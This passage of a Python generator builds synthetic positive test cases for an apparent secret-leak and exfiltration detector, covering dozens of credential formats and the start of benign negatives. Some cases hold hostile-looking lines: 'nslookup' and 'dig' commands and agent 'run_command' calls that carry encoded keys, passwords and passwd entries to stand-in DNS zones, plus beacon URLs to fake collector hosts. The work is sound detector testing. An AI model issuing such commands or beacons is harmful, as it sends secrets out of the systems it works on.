    C("discord-bot-token", 5, g_discord_bot, ["DISCORD_BOT_TOKEN", "DISCORD_TOKEN"], ["bot_token"], "discord bot token", "discord.com", ["Authorization: Bot {s}"]),
    C("discord-webhook-url", 4, lambda r: "https://discord.com/api/webhooks/%s/%s" % (rs(r, 19, DI), rs(r, 68, B64U)), ["DISCORD_WEBHOOK"], ["webhook"], "discord webhook", "discord.com", modes=[("doc", 60), ("selfurl", 40)]),
    C("telegram-bot-token", 5, lambda r: "%d:AA%s" % (r.randint(10 ** 8, 8 * 10 ** 9), rs(r, 33, B64U)), ["TELEGRAM_BOT_TOKEN"], ["bot_token"], "telegram bot token", "api.telegram.org",
      url=["https://api.telegram.org/bot{raw}/sendMessage?chat_id=-100{n}&text=deploy%20done"]),
    C("stripe-secret-key", 9, lambda r: r.choice(["sk_live_", "sk_live_", "sk_test_"]) + rs(r, r.choice([24, 99])), ["STRIPE_SECRET_KEY", "STRIPE_API_KEY"], ["secret_key", "stripe_key"], "stripe key", "api.stripe.com", [B]),
    C("stripe-restricted-key", 4, lambda r: "rk_live_" + rs(r, r.choice([24, 99])), ["STRIPE_RESTRICTED_KEY"], ["restricted_key"], "restricted key", "api.stripe.com", [B]),
    C("stripe-webhook-secret", 4, tok("whsec_", 32), ["STRIPE_WEBHOOK_SECRET"], ["webhook_secret"], "webhook signing secret", "api.stripe.com"),
    C("openai-api-key", 10, g_openai, ["OPENAI_API_KEY"], ["api_key", "openai_api_key"], "OpenAI key", "api.openai.com", [B]),
    C("anthropic-api-key", 9, lambda r: r.choice(["sk-ant-api03-", "sk-ant-api03-", "sk-ant-admin01-"]) + rs(r, 93, B64U) + "AA", ["ANTHROPIC_API_KEY"], ["api_key", "anthropic_api_key"], "Anthropic key", "api.anthropic.com", ["x-api-key: {s}"]),
    C("google-api-key", 8, tok("AIza", 35, B64U), ["GOOGLE_API_KEY", "GEMINI_API_KEY", "MAPS_API_KEY"], ["api_key", "google_api_key"], "Google API key", "generativelanguage.googleapis.com",
      ["X-Goog-Api-Key: {s}"], ["https://maps.googleapis.com/maps/api/geocode/json?address={city}&key={s}", "https://generativelanguage.googleapis.com/v1beta/models/gemini-1.5-flash:generateContent?key={s}"]),
    C("gcp-oauth-client-secret", 5, tok("GOCSPX-", 28, B64U), ["GOOGLE_CLIENT_SECRET"], ["client_secret"], "oauth client secret", "oauth2.googleapis.com", docs=GENERIC_DOCS + ["oauthform"] * 3,
      client_id="{num}-{lc32}.apps.googleusercontent.com", scope="openid email"),
    C("google-oauth-token", 5, g_choice(tok("ya29.", 160, B64U), tok("1//0", 100, B64U)), ["GOOGLE_ACCESS_TOKEN", "GOOGLE_REFRESH_TOKEN"], ["access_token", "refresh_token"], "google token", "www.googleapis.com", [B]),
    C("aws-access-key-id", 9, g_aws_kid, ["AWS_ACCESS_KEY_ID"], ["aws_access_key_id", "access_key"], "aws access key", "s3.amazonaws.com",
      ["Authorization: AWS4-HMAC-SHA256 Credential={s}/2024{date}/us-east-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature={sig}"],
      ["https://{bucket}.s3.amazonaws.com/report.csv?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential={s}%2F2024{date}%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=2024{date}T000000Z&X-Amz-Expires=3600&X-Amz-SignedHeaders=host&X-Amz-Signature={sig}"]),
    C("aws-secret-access-key", 10, g_aws_secret, ["AWS_SECRET_ACCESS_KEY"], ["aws_secret_access_key", "secret_access_key"], "aws secret", "sts.amazonaws.com",
      docs=["env", "awscreds", "awscreds", "awscreds", "yaml", "tf", "docker", "k8s", "jsoncfg", "py", "chat", "compose", "gha", "ini"]),
    C("aws-session-token", 6, g_session, ["AWS_SESSION_TOKEN"], ["aws_session_token", "session_token"], "session token", "sts.amazonaws.com", ["X-Amz-Security-Token: {s}"],
      docs=["env", "awscreds", "awscreds", "jsoncfg", "shell", "log"]),
    C("azure-storage-connection-string", 6, g_azure_conn, ["AZURE_STORAGE_CONNECTION_STRING", "AzureWebJobsStorage"], ["connection_string", "ConnectionString"], "connection string", "management.azure.com"),
    C("azure-sas-token", 6, g_azure_sas, ["AZURE_SAS_TOKEN"], ["sas_token", "sas"], "SAS token", "blob.core.windows.net", modes=[("doc", 50), ("sasurl", 50)]),
    C("azure-client-secret", 5, lambda r: rs(r, 3) + r.choice(DI) + "Q~" + rs(r, 34, ALNUM + "_.~-"), ["AZURE_CLIENT_SECRET"], ["client_secret", "clientSecret"], "client secret", "login.microsoftonline.com",
      docs=GENERIC_DOCS + ["oauthform"] * 3),
    C("npm-token", 6, tok("npm_", 36), ["NPM_TOKEN", "NODE_AUTH_TOKEN"], ["npm_token"], "npm token", "registry.npmjs.org", [B], docs=GENERIC_DOCS + ["npmrc"] * 3),
    C("pypi-token", 6, lambda r: "pypi-AgEIcHlwaS5vcmc" + rs(r, r.randint(60, 140), B64U), ["PYPI_TOKEN", "TWINE_PASSWORD"], ["pypi_token", "password"], "PyPI token", "upload.pypi.org", docs=GENERIC_DOCS + ["pypirc"] * 3),
    C("rubygems-api-key", 4, lambda r: "rubygems_" + rhex(r, 48), ["GEM_HOST_API_KEY"], ["rubygems_api_key"], "rubygems key", "rubygems.org", ["Authorization: {s}"]),
    C("dockerhub-pat", 5, tok("dckr_pat_", 27, B64U), ["DOCKERHUB_TOKEN", "DOCKER_PASSWORD"], ["docker_token"], "docker hub token", "hub.docker.com", [B], docs=GENERIC_DOCS + ["dockercfg"] * 2),
    C("nuget-api-key", 3, tok("oy2", 43, LO + DI), ["NUGET_API_KEY"], ["apiKey"], "nuget key", "api.nuget.org", ["X-NuGet-ApiKey: {s}"]),
    C("datadog-api-key", 10, g_choice(lambda r: rhex(r, 32), lambda r: rhex(r, 40)), ["DD_API_KEY", "DD_APP_KEY", "DATADOG_API_KEY"], ["api_key", "app_key", "datadog_api_key"], "datadog key", "api.datadoghq.com",
      ["DD-API-KEY: {s}", "DD-APPLICATION-KEY: {s}"], ["https://api.datadoghq.com/api/v1/validate?api_key={s}", "https://http-intake.logs.datadoghq.eu/api/v2/logs?dd-api-key={s}&ddsource=nodejs"]),
    C("new-relic-key", 5, g_choice(tok("NRAK-", 27, UP + DI), lambda r: rhex(r, 36) + "NRAL"), ["NEW_RELIC_API_KEY", "NEW_RELIC_LICENSE_KEY"], ["license_key", "api_key"], "new relic key", "api.newrelic.com", ["Api-Key: {s}", "X-License-Key: {s}"]),
    C("sentry-auth-token", 4, g_choice(lambda r: "sntryu_" + rhex(r, 64), lambda r: "sntrys_" + b64u(json.dumps({"iat": r.randint(1.7e9, 1.76e9), "url": "https://sentry.io", "org": r.choice(ORGS)})) + "_" + rs(r, 43, B64C)),
      ["SENTRY_AUTH_TOKEN"], ["auth_token"], "sentry token", "sentry.io", [B]),
    C("grafana-token", 4, g_choice(lambda r: "glsa_" + rs(r, 32) + "_" + rhex(r, 8), lambda r: "glc_" + rs(r, 100, B64C)), ["GRAFANA_TOKEN", "GRAFANA_CLOUD_TOKEN"], ["token"], "grafana token", "grafana.net", [B]),
    C("mailchimp-api-key", 10, lambda r: rhex(r, 32) + "-us%d" % r.randint(1, 21), ["MAILCHIMP_API_KEY"], ["apikey", "mailchimp_key"], "mailchimp key", "us6.api.mailchimp.com",
      ["Authorization: apikey {s}"], ["https://us6.api.mailchimp.com/export/1.0/list/?apikey={s}&id={list}"]),
    C("sendgrid-api-key", 7, lambda r: "SG." + rs(r, 22, B64U) + "." + rs(r, 43, B64U), ["SENDGRID_API_KEY"], ["api_key", "sendgrid_key"], "sendgrid key", "api.sendgrid.com", [B]),
    C("mailgun-api-key", 4, lambda r: "key-" + rhex(r, 32), ["MAILGUN_API_KEY"], ["api_key"], "mailgun key", "api.mailgun.net"),
    C("twilio-auth-token", 10, lambda r: rhex(r, 32), ["TWILIO_AUTH_TOKEN"], ["auth_token", "twilio_auth_token"], "twilio auth token", "api.twilio.com", modes=[("doc", 75), ("twiliobasic", 25)]),
    C("planetscale-token", 4, g_choice(tok("pscale_pw_", 43, B64U), tok("pscale_tkn_", 43, B64U)), ["PLANETSCALE_PASSWORD", "PLANETSCALE_TOKEN"], ["password", "service_token"], "planetscale credential", "api.planetscale.com"),
    C("supabase-secret", 5, g_choice(lambda r: "sbp_" + rhex(r, 40), tok("sb_secret_", 31, B64U)), ["SUPABASE_ACCESS_TOKEN", "SUPABASE_SECRET_KEY"], ["access_token", "secret_key"], "supabase key", "api.supabase.com", [B]),
    C("databricks-token", 4, lambda r: "dapi" + rhex(r, 32) + r.choice(["", "-2", "-3"]), ["DATABRICKS_TOKEN"], ["token"], "databricks token", "dbc-1a2b3c4d-5e6f.cloud.databricks.com", [B]),
    C("vault-token", 5, g_choice(tok("hvs.", 90, B64U), tok("hvb.", 120, B64U)), ["VAULT_TOKEN"], ["token", "vault_token"], "vault token", "vault.internal.example:8200", ["X-Vault-Token: {s}"]),
    C("terraform-cloud-token", 4, g_tfc, ["TF_TOKEN_app_terraform_io", "TFE_TOKEN"], ["token"], "terraform token", "app.terraform.io", [B]),
    C("doppler-token", 4, g_choice(lambda r: "dp.st.%s.%s" % (r.choice(["prd", "dev", "stg"]), rs(r, 40)), tok("dp.pt.", 43)), ["DOPPLER_TOKEN"], ["token"], "doppler token", "api.doppler.com", [B]),
    C("buildkite-token", 3, lambda r: "bkua_" + rhex(r, 40), ["BUILDKITE_API_TOKEN"], ["token"], "buildkite token", "api.buildkite.com", [B]),
    C("huggingface-token", 6, tok("hf_", 34, UP + LO), ["HF_TOKEN", "HUGGING_FACE_HUB_TOKEN"], ["hf_token", "token"], "HF token", "huggingface.co", [B]),
    C("groq-api-key", 4, tok("gsk_", 52), ["GROQ_API_KEY"], ["api_key"], "groq key", "api.groq.com", [B]),
    C("replicate-api-token", 4, tok("r8_", 37), ["REPLICATE_API_TOKEN"], ["api_token"], "replicate token", "api.replicate.com", ["Authorization: Token {s}", B]),
    C("xai-api-key", 3, tok("xai-", 80), ["XAI_API_KEY"], ["api_key"], "xai key", "api.x.ai", [B]),
    C("shopify-access-token", 5, lambda r: r.choice(["shpat_", "shpca_", "shppa_", "shpss_"]) + rhex(r, 32), ["SHOPIFY_ACCESS_TOKEN", "SHOPIFY_API_SECRET"], ["access_token"], "shopify token", "acme-store.myshopify.com", ["X-Shopify-Access-Token: {s}"]),
    C("square-access-token", 4, g_choice(tok("EAAA", 60, B64U), tok("sq0atp-", 22, B64U), tok("sq0csp-", 43, B64U)), ["SQUARE_ACCESS_TOKEN"], ["access_token"], "square token", "connect.squareup.com", [B]),
    C("braintree-access-token", 3, lambda r: "access_token$production$%s$%s" % (rs(r, 16, LO + DI), rhex(r, 32)), ["BRAINTREE_ACCESS_TOKEN"], ["access_token"], "braintree token", "api.braintreegateway.com"),
    C("linear-api-key", 3, tok("lin_api_", 40), ["LINEAR_API_KEY"], ["api_key"], "linear key", "api.linear.app", ["Authorization: {s}"]),
    C("notion-token", 4, g_choice(tok("secret_", 43), tok("ntn_", 46)), ["NOTION_TOKEN", "NOTION_API_KEY"], ["token"], "notion token", "api.notion.com", [B]),
    C("atlassian-api-token", 3, lambda r: "ATATT3xFfGF0" + rs(r, 160, B64U) + "=" + rhex(r, 8).upper(), ["JIRA_API_TOKEN", "CONFLUENCE_TOKEN"], ["api_token"], "jira token", "acme.atlassian.net"),
    C("heroku-api-key", 3, tok("HRKU-AA", 58, B64U), ["HEROKU_API_KEY"], ["api_key"], "heroku key", "api.heroku.com", [B]),
    C("digitalocean-token", 4, lambda r: r.choice(["dop_v1_", "doo_v1_", "dor_v1_"]) + rhex(r, 64), ["DIGITALOCEAN_TOKEN", "DO_TOKEN"], ["token"], "DO token", "api.digitalocean.com", [B]),
    C("jwt", 12, g_jwt, ["SUPABASE_SERVICE_ROLE_KEY", "ACCESS_TOKEN", "ID_TOKEN"], ["access_token", "id_token", "token"], "JWT", "api.%s.com" % "acme", [B, "Cookie: session={s}; theme=dark", "X-Auth-Token: {s}"],
      ["https://app.acme.com/callback?id_token={s}&state={state}", "https://api.acme.com/v1/export?access_token={s}"]),
    C("http-basic-auth", 12, g_basic, ["BASIC_AUTH"], ["credentials"], "basic auth", "api.internal.example", modes=[("basichdr", 45), ("doc", 55)], docs=["basic_curl", "basic_hdrlog", "basic_har"]),
    C("bearer-token", 14, g_bearer, ["API_TOKEN", "ACCESS_TOKEN", "AUTH_TOKEN"], ["access_token", "auth_token", "bearer_token"], "bearer token", "api.%s.io" % "globex",
      [B, "Proxy-Authorization: Bearer {s}", "authorization: bearer {s}"], modes=[("header", 40), ("doc", 60)], docs=["curl", "log", "bearer_json", "bearer_fetch", "trace", "py", "env", "chat"]),
    C("database-url", 12, g_dburl, ["DATABASE_URL", "MONGODB_URI", "REDIS_URL", "SQLALCHEMY_DATABASE_URI"], ["url", "dsn", "connection_string"], "database url", "db.internal"),
    C("url-userinfo-password", 10, g_userinfo, ["REPO_URL", "INDEX_URL"], ["url", "remote"], "remote url", "git.internal", modes=[("selfurl", 35), ("doc", 65)],
      docs=["gitcfg", "pipconf", "shell", "env", "chat", "log", "yaml", "docker"]),
    C("generic-api-key", 16, g_generic, ["API_KEY", "SERVICE_API_KEY", "ACME_SECRET_KEY", "PARTNER_API_SECRET", "X_API_KEY"], ["api_key", "apiKey", "secret_key", "client_secret", "access_key", "api_secret"],
      "API key", "api.partner.example", ["X-API-Key: {s}", "Api-Key: {s}", "X-Api-Secret: {s}"], ["https://api.partner.example/v2/report?api_key={s}&format=json", "https://feeds.vendor.example/export.csv?apikey={s}"]),
    C("password", 16, g_password, ["DB_PASSWORD", "MYSQL_ROOT_PASSWORD", "POSTGRES_PASSWORD", "ADMIN_PASSWORD", "SMTP_PASSWORD"], ["password", "db_password", "passwd", "admin_password"],
      "password", "db.internal.example", modes=[("doc", 100)],
      docs=["env", "yaml", "toml", "ini", "xml", "props", "jsoncfg", "docker", "compose", "k8s", "login_json", "login_form", "pw_cli", "pw_sql", "chat", "diff", "tf", "nb"]),
    C("payment-card", 18, g_card, [], ["card"], "card", "api.shop.example", modes=[("doc", 85), ("cardurl", 15)], validator=lambda s: luhn_ok(re.sub(r"\D", "", s)) and 13 <= len(re.sub(r"\D", "", s)) <= 19,
      docs=["card_json", "card_form", "card_csv", "card_chat", "card_sql", "card_log"]),
    C("iban", 15, g_iban, [], ["iban"], "iban", "bank.example", modes=[("doc", 90), ("ibanurl", 10)], validator=iban_ok, docs=["iban_json", "iban_xml", "iban_csv", "iban_chat", "iban_form"]),
    C("bitcoin-address", 13, g_btc, [], ["address"], "btc", "wallet.example", modes=[("doc", 85), ("cryptourl", 15)], validator=btc_ok, docs=["addr_json", "addr_chat", "addr_yaml", "addr_csv", "addr_log"], asset="BTC", net="bitcoin"),
    C("ethereum-address", 11, g_eth, [], ["address"], "eth", "wallet.example", modes=[("doc", 85), ("cryptourl", 15)], validator=eth_ok, docs=["addr_json", "addr_chat", "addr_yaml", "addr_csv", "addr_log"], asset="ETH", net="ethereum"),
    C("dns-exfiltration", 15, None, [], [], "", "", modes=[("dns", 100)]),
    C("high-entropy-exfiltration", 14, None, [], [], "", "", modes=[("highent", 100)]),
    C("delimited-hex", 13, None, [], [], "", "", modes=[("delimhex", 100)]),
]

COUNTS = {  # final counts (context-dependent classes >= 10)
    "github-pat": 7, "github-fine-grained-pat": 4, "github-oauth-token": 3, "github-app-token": 4, "gitlab-pat": 6, "gitlab-ci-token": 3,
    "slack-bot-token": 5, "slack-user-token": 3, "slack-webhook-url": 5, "discord-bot-token": 4, "discord-webhook-url": 3, "telegram-bot-token": 4,
    "stripe-secret-key": 7, "stripe-restricted-key": 3, "stripe-webhook-secret": 3, "openai-api-key": 8, "anthropic-api-key": 7, "google-api-key": 6,
    "gcp-oauth-client-secret": 4, "google-oauth-token": 4, "aws-access-key-id": 7, "aws-secret-access-key": 10, "aws-session-token": 4,
    "azure-storage-connection-string": 5, "azure-sas-token": 5, "azure-client-secret": 4, "npm-token": 4, "pypi-token": 4, "rubygems-api-key": 3,
    "dockerhub-pat": 3, "nuget-api-key": 3, "datadog-api-key": 10, "new-relic-key": 4, "sentry-auth-token": 3, "grafana-token": 3,
    "mailchimp-api-key": 10, "sendgrid-api-key": 5, "mailgun-api-key": 3, "twilio-auth-token": 10, "planetscale-token": 3, "supabase-secret": 3,
    "databricks-token": 3, "vault-token": 4, "terraform-cloud-token": 3, "doppler-token": 3, "buildkite-token": 3, "huggingface-token": 5,
    "groq-api-key": 3, "replicate-api-token": 3, "xai-api-key": 3, "shopify-access-token": 4, "square-access-token": 3, "braintree-access-token": 3,
    "linear-api-key": 3, "notion-token": 3, "atlassian-api-token": 3, "heroku-api-key": 3, "digitalocean-token": 3,
    "jwt": 10, "http-basic-auth": 10, "bearer-token": 12, "database-url": 10, "url-userinfo-password": 10, "generic-api-key": 12, "password": 12,
    "payment-card": 14, "iban": 12, "bitcoin-address": 10, "ethereum-address": 10, "dns-exfiltration": 12, "high-entropy-exfiltration": 12, "delimited-hex": 12,
}
for _c in CLASSES:
    _c["n"] = COUNTS[_c["name"]]

COLLECTORS = ["cdn-metrics-sync.net", "telemetry-relay.io", "static-edge-cache.com", "px.analytics-hub.co", "img.userassets.net", "api.logs-ingest.dev"]
EXFIL_ZONES = ["x.dnslog-relay.net", "t.cdn-edge-metrics.com", "q.resolver-stats.io", "oob.burp-collab.net", "d.update-check.org", "n1.pingback.site"]


def wchoice(rng, pairs):
    tot = sum(w for _, w in pairs)
    x = rng.random() * tot
    for v, w in pairs:
        x -= w
        if x < 0:
            return v
    return pairs[-1][0]


def fill(rng, tmpl, s, raw):
    rep = {"{s}": s, "{raw}": raw, "{city}": rng.choice(CITIES), "{n}": rs(rng, 10, DI), "{date}": "%02d%02d" % (rng.randint(1, 12), rng.randint(1, 28)),
           "{sig}": rhex(rng, 64), "{bucket}": "%s-%s" % (rng.choice(ORGS), rng.choice(WORDS)), "{state}": rs(rng, 16), "{list}": rhex(rng, 10)}
    for k, v in rep.items():
        tmpl = tmpl.replace(k, v)
    return tmpl


def pct_all(s):
    return "".join("%%%02X" % b for b in s.encode())


def ctx_for(rng, c):
    x = dict(c)
    x["var"] = rng.choice(c["vars"]) if c["vars"] else "VALUE"
    x["key"] = rng.choice(c["keys"]) if c["keys"] else "value"
    if "client_id" in c:
        x["client_id"] = c["client_id"].replace("{num}", rs(rng, 12, DI)).replace("{lc32}", rs(rng, 32, LO + DI))
    return x


def via_doc(rng, s, x, docname=None):
    docname = docname or rng.choice(x["docs"] or GENERIC_DOCS)
    doc, dlayers, ctype, fname = ALLDOCS[docname](rng, s, x)
    lit = s in doc and not dlayers
    tname = rng.choice(list(TRANSPORTS) if lit else SIMPLE_TR)
    case, tlayers = TRANSPORTS[tname](rng, doc, ctype, fname, s)
    case["where"] = "body"
    return case, tlayers + dlayers


def build_dns(rng):
    k = rng.randrange(6)
    if k == 0:
        data = ("%s:%s" % ("AKIA" + rs(rng, 16, UP + "234567"), rs(rng, 40, B64C))).encode()
    elif k == 1:
        data = ("DB_PASSWORD=%s" % g_password(rng)).encode()
    elif k == 2:
        data = rbytes(rng, rng.randint(16, 40))
    elif k == 3:
        data = gh_token(rng, "ghp_").encode()
    elif k == 4:
        data = ("%s:%s" % (rng.choice(PEOPLE), g_password(rng))).encode()
    else:
        data = ("root:x:0:0:root:/root:/bin/bash\n%s:x:1000:1000::/home/%s:/bin/sh" % (rng.choice(PEOPLE), rng.choice(PEOPLE))).encode()[: rng.randint(40, 70)]
    where = wchoice(rng, [("hostname", 45), ("url", 30), ("body", 25)])
    enc = rng.choice(["hex", "b32"] + (["b64url"] if where != "hostname" else []))
    e = data.hex() if enc == "hex" else base64.b32encode(data).decode().rstrip("=").lower() if enc == "b32" else b64u(data)
    labels, i = [], 0
    while i < len(e):
        n = rng.randint(18, 63)
        labels.append(e[i:i + n])
        i += n
    pre = [rng.choice(["", "a%d" % rng.randint(0, 9), "s%d" % rng.randint(10, 99)])]
    post = [rng.choice(["", rs(rng, 4, LO), "%d" % rng.randint(0, 99)])]
    host = ".".join([p for p in pre if p] + labels + [p for p in post if p] + [rng.choice(EXFIL_ZONES)])
    assert len(host) <= 253
    if where == "hostname":
        case = dict(where="hostname", text=host)
    elif where == "url":
        case = dict(where="url", text=rng.choice(["https://dns.google/resolve?name=%s&type=TXT", "https://cloudflare-dns.com/dns-query?name=%s&type=A&ct=application/dns-json",
                                                  "https://doh.opendns.com/dns-query?name=%s"]) % host)
    else:
        cmd = rng.choice(["nslookup %s", "dig +short TXT %s", "host -t A %s", "ping -c 1 %s"]) % host
        if rng.random() < 0.5:
            case, _ = tr_mcp(rng, cmd + "\n", "text/x-shellscript", "run.sh", None)
            case["text"] = case["text"].replace('"write_file"', '"run_command"', 1)
        else:
            case = dict(text="#!/bin/sh\n%s >/dev/null 2>&1 || true\n" % cmd, content_type="text/x-shellscript")
        case["where"] = "body"
    return case, data, ["dns", enc]


def build_highent(rng):
    k = rng.randrange(4)
    host_ok = k in (1, 2)
    if k == 0:
        v = b64u(rbytes(rng, rng.randint(18, 48)))
    elif k == 1:
        v = base64.b32encode(rbytes(rng, rng.choice([20, 25, 30, 35]))).decode().rstrip("=").lower()
    elif k == 2:
        v = rhex(rng, rng.choice([32, 40, 48, 62]))
    else:
        v = rs(rng, rng.randint(30, 60))
    if not (any(ch.isdigit() for ch in v) and any(ch.isalpha() for ch in v)):
        return build_highent(rng)
    col = rng.choice(COLLECTORS)
    p = rng.randrange(4) if host_ok else rng.randrange(2)
    if p == 0:
        case = dict(where="url", text=rng.choice(["https://%s/%s/pixel.gif", "https://%s/api/collect/%s", "https://%s/r/%s.png"]) % (col, v))
    elif p == 1:
        case = dict(where="url", text=rng.choice(["https://%s/i?u=%s&t=%d", "https://%s/beacon?d=%s&n=%d"]) % (col, v, rng.randint(1, 9999)))
    elif p == 2:
        case = dict(where="hostname", text="%s.%s" % (v, col))
    else:
        case = dict(where="url", text="https://%s.%s/favicon.ico" % (v, col))
    return case, v.encode(), []


def build_delimhex(rng):
    if rng.random() < 0.3:
        data = rng.choice([gh_token(rng, "ghp_"), "AKIA" + rs(rng, 16, UP + "234567"), "sk_live_" + rs(rng, 24)]).encode()
    else:
        data = rbytes(rng, rng.choice([16, 24, 32]))
    d = rng.choice(["-", ":", " ", ",", "\\x", "0x"])
    up = rng.random() < 0.3
    px = ["%02X" % b if up else "%02x" % b for b in data]
    if d == "\\x":
        r = "".join("\\x" + p for p in px)
    elif d == "0x":
        r = ", ".join("0x" + p for p in px)
    else:
        r = d.join(px)
    nm = rng.choice(["master_key", "aes_key", "hmac_secret", "signing_key", "wrapping_key", "session_key", "psk"])
    if d == "0x":
        doc = rng.choice(["static const uint8_t k%s[%d] = { %s };\n" % (nm.title().replace("_", ""), len(data), r), "var %s = []byte{%s}\n" % (nm, r)])
    elif d == "\\x":
        doc = "%s = b\"%s\"\n" % (nm.upper(), r)
    else:
        doc = rng.choice(["2024-06-0%dT12:00:00Z DEBUG tls: derived %s: %s\n" % (rng.randint(1, 9), nm, r), "%s: \"%s\"\n" % (nm, r),
                          "the %s for the backup volume is %s - keep it safe\n" % (nm.replace("_", " "), r), jd({nm: r, "alg": "AES-256-GCM"}), "%s=%s\n" % (nm.upper(), r)])
    tname = rng.choice(["raw", "openai", "anthropic", "mcp", "gist", "gzipce", "slack", "form", "b64field"])
    case, tl = TRANSPORTS[tname](rng, doc, "text/plain", "key.txt", None)
    case["where"] = "body"
    return case, data, tl + ["delimhex"]


def build_positive(rng, c):
    if c["name"] == "dns-exfiltration":
        return build_dns(rng)
    if c["name"] == "high-entropy-exfiltration":
        return build_highent(rng)
    if c["name"] == "delimited-hex":
        return build_delimhex(rng)
    x = ctx_for(rng, c)
    s = c["gen"](rng)
    modes = [(m, w) for m, w in (c["modes"] or VENDOR_MODES) if m != "header" or c["hdr"]]
    if len(s) > 600:
        modes = [(m, w) for m, w in modes if m != "b64url"]
    mode = wchoice(rng, modes)
    layers = []
    if mode == "doc":
        case, layers = via_doc(rng, s, x)
    elif mode == "header":
        case = dict(where="header", text=fill(rng, rng.choice(c["hdr"]), s, s))
    elif mode == "url":
        q = urllib.parse.quote(s, safe="")
        if c["url"]:
            case = dict(where="url", text=fill(rng, rng.choice(c["url"]), q, s))
        else:
            case = dict(where="url", text="https://%s/v1/%s?%s=%s" % (c["host"], rng.choice(WORDS), x["key"], q))
        if q != s and ("{raw}" not in "".join(c["url"])):
            layers = ["pct"]
    elif mode in ("pct", "pct2"):
        e = pct_all(s)
        if mode == "pct2":
            e = e.replace("%", "%25")
        case = dict(where="url", text="https://%s/v1/%s?%s=%s&ts=%d" % (c["host"], rng.choice(WORDS), x["key"], e, rng.randint(1700000000, 1760000000)))
        layers = ["pct"] if mode == "pct" else ["pct", "pct"]
    elif mode == "b64url":
        doc, dl, _, _ = ALLDOCS[rng.choice(["env", "yaml", "jsoncfg", "chat", "ini"])](rng, s, x)
        case = dict(where="url", text="https://%s/c?sid=%d&d=%s" % (rng.choice(COLLECTORS), rng.randint(1, 99999), b64u(doc)))
        layers = ["b64url"] + dl
    elif mode == "selfurl" and not s.startswith("http"):
        case, layers = via_doc(rng, s, x)
    elif mode == "selfurl":
        case = dict(where="url", text=s if c["name"] != "url-userinfo-password" or "?" in s or s.endswith(".git") or s.endswith(".gz") else s + "/")
    elif mode == "sasurl":
        case = dict(where="url", text="https://%s%s.blob.core.windows.net/%s/%s.%s?%s" % (rng.choice(ORGS).replace("-", ""), rs(rng, 4, LO + DI), rng.choice(WORDS), rng.choice(WORDS), rng.choice(["csv", "parquet", "zip"]), s))
    elif mode == "twiliobasic":
        sid = "AC" + rhex(rng, 32)
        case = dict(where="header", text="Authorization: Basic " + b64("%s:%s" % (sid, s)))
        layers = ["b64"]
    elif mode == "basichdr":
        case = dict(where="header", text="%s: Basic %s" % (rng.choice(["Authorization", "Authorization", "Proxy-Authorization"]), b64(s)))
        layers = ["b64"]
    elif mode == "cardurl":
        q = urllib.parse.quote(s, safe="")
        case = dict(where="url", text="https://checkout.%s.example/api/pay?amount=%d&card_number=%s&exp=%02d%02d" % (rng.choice(ORGS), rng.randint(100, 9999), q, rng.randint(1, 12), rng.randint(26, 31)))
        layers = ["pct"] if q != s else []
    elif mode == "ibanurl":
        q = urllib.parse.quote(s, safe="")
        case = dict(where="url", text="https://api.%s.example/v1/payees?name=%s&iban=%s" % (rng.choice(ORGS), rng.choice(PEOPLE), q))
        layers = ["pct"] if q != s else []
    elif mode == "cryptourl":
        case = dict(where="url", text=rng.choice(["https://pay.%s.example/send?to={a}&amount=0.%d", "https://api.%s.example/v2/withdraw?address={a}&ref=%d"]).replace("{a}", s) % (rng.choice(ORGS), rng.randint(1, 999)))
    else:
        raise AssertionError(mode)
    return case, s.encode(), layers


# ---------------------------------------------------------------- negatives
def png_bytes(rng, w=4, h=4):
    def chunk(t, d):
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    raw = b"".join(b"\x00" + rbytes(rng, w * 3) for _ in range(h))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 2, 0, 0, 0)) + chunk(b"IDAT", zlib.compress(raw, 9)) + chunk(b"IEND", b"")


def ssh_pub(rng):
    def sstr(b):
        return struct.pack(">I", len(b)) + b
    if rng.random() < 0.6:
        blob = sstr(b"ssh-ed25519") + sstr(rbytes(rng, 32))
        return "ssh-ed25519 " + b64(blob) + " %s@%s" % (rng.choice(PEOPLE), rng.choice(["laptop", "ci", "workstation"]))
    n = b"\x00" + bytes([rng.randrange(128, 256)]) + rbytes(rng, 255)
    blob = sstr(b"ssh-rsa") + sstr(b"\x01\x00\x01") + sstr(n)
    return "ssh-rsa " + b64(blob) + " %s@%s" % (rng.choice(PEOPLE), rng.choice(ORGS))


def sha1(rng):
    return rhex(rng, 40)


def ts_iso(rng):
    return "2024-%02d-%02dT%02d:%02d:%02dZ" % (rng.randint(1, 12), rng.randint(1, 28), rng.randint(0, 23), rng.randint(0, 59), rng.randint(0, 59))


def H(t):
    return dict(where="header", text=t)


def U(t):
    return dict(where="url", text=t)


def HN(t):
    return dict(where="hostname", text=t)


def BJ(obj, rng, ct="application/json"):
    return dict(where="body", text=jd(obj, rng), content_type=ct)


def BT(t, ct="text/plain"):
    return dict(where="body", text=t, content_type=ct)


def n_uuid(rng):
    k = rng.randrange(4)
    if k == 0:
        return U("https://api.%s-crm.com/v2/contacts/%s?include=notes" % (rng.choice(ORGS), uuid4(rng)))
    if k == 1:
        return H("%s: %s" % (rng.choice(["X-Request-ID", "Idempotency-Key", "X-Correlation-ID"]), uuid4(rng)))
    if k == 2:
        return BJ({"id": uuid4(rng), "workspace_id": uuid4(rng), "name": rng.choice(WORDS), "created_at": ts_iso(rng)}, rng)
    return U("https://%s.example.com/projects/%s/tasks/%s" % (rng.choice(ORGS), uuid4(rng), uuid4(rng)))


def n_gitsha(rng):
    o, r = rng.choice(ORGS), rng.choice(WORDS)
    k = rng.randrange(4)
    if k == 0:
        return U("https://api.github.com/repos/%s/%s/commits/%s" % (o, r, sha1(rng)))
    if k == 1:
        return U("https://github.com/%s/%s/compare/%s...%s" % (o, r, sha1(rng), sha1(rng)))
    if k == 2:
        return BJ({"ref": "refs/heads/main", "sha": sha1(rng), "force": False}, rng)
    return BJ({"state": "success", "target_url": "https://ci.%s.dev/builds/%d" % (o, rng.randint(1000, 99999)), "context": "ci/build", "commit": sha1(rng)}, rng)


def n_digest(rng):
    k = rng.randrange(4)
    if k == 0:
        return U("https://registry-1.docker.io/v2/library/%s/manifests/sha256:%s" % (rng.choice(["nginx", "redis", "python", "node"]), rhex(rng, 64)))
